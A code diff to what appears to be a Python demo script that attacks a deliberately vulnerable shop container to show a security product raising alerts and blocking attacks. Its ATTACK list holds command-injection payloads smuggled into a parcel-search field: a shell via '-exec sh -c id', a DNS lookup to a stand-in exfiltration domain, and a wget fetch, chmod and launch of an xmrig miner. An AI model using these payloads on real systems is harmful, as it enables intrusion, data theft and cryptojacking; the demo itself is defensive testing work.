@@ -6,6 +6,7 @@ Nothing here is special: it types the commands of the README, in the same order 
 from __future__ import annotations
 
 import contextlib
+import html
 import json
 import os
 import re
@@ -36,9 +37,9 @@ HOST = "host.bartizan.internal"
 SHOP_IMAGE, DEFENDER_IMAGE = "battlement/shop:1", "bartizan/defender:0.1.0"
 MINER = b"#!/bin/sh\necho mining for somebody else\n"
 ATTACK = [
-    ("a shell, through the hole in the parcel search", "x -exec sh -c id ;"),
-    ("a look-up of a domain that data is smuggled out by", "x -exec nslookup exfil.evil.test ;"),
-    ("a download from a miners' pool", "x -exec wget -q -O /tmp/xmrig http://pool.miner.test:3334/xmrig ;"),
+    ("a shell, through the hole in the parcel search", "BTZ-1 -exec sh -c id ;"),
+    ("a look-up of a domain that data is smuggled out by", "BTZ-1 -exec nslookup exfil.evil.test ;"),
+    ("a download from a miners' pool", "BTZ-1 -exec wget -q -O /tmp/xmrig http://pool.miner.test:3334/xmrig ;"),
     ("the download made executable", "BTZ-1 -exec chmod 755 /tmp/xmrig ;"),
     ("the miner started", "BTZ-1 -exec /tmp/xmrig ;"),
 ]
@@ -57,7 +58,7 @@ def main() -> int:
             shop = stack.enter_context(embedded_shop(folder, console))
         else:
             shop = stack.enter_context(protected_task(folder, console))
-        threading.Thread(target=show_audits, args=(console,), daemon=True).start()
+        stack.enter_context(shown_audits(console))
         for effect in ("alert", "prevent"):
             attack(shop, console, effect)
         title("Everything stays up until Ctrl-C")
@@ -138,7 +139,7 @@ class Shop:
     def track(self, parcel: str) -> str:
         """Search for a parcel; return what the page says."""
         page = httpx.get(f"{self.url}/track", params={"parcel": parcel}, timeout=30).text
-        return page.split("<pre>", 1)[1].split("</pre>", 1)[0].strip()
+        return html.unescape(page.split("<pre>", 1)[1].split("</pre>", 1)[0]).strip()
 
 
 @contextlib.contextmanager
@@ -303,20 +304,24 @@ def wait_for_policy(console: Console) -> None:
     raise SystemExit(f"the Defender did not take the policy: {defenders}")
 
 
-def show_audits(console: Console) -> None:
+@contextlib.contextmanager
+def shown_audits(console: Console) -> Iterator[None]:
     """Print every audit as the Console announces it."""
     command = [*BARTIZAN, "audits", "--follow"]
     process = subprocess.Popen(
-        command,
-        env=console.environment(),
-        stdout=subprocess.PIPE,
-        stderr=subprocess.DEVNULL,
-        text=True,
-        start_new_session=True,
+        command, env=console.environment(), stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, start_new_session=True
     )
-    assert process.stdout is not None
-    for line in process.stdout:
-        say(f"  ⚑ audit  {line.strip()}")
+
+    def show() -> None:
+        for line in process.stdout or ():
+            say(f"  ⚑ audit  {line.strip()}")
+
+    threading.Thread(target=show, daemon=True).start()
+    try:
+        yield
+    finally:
+        process.kill()
+        process.wait()
 
 
 def title(text: str) -> None:
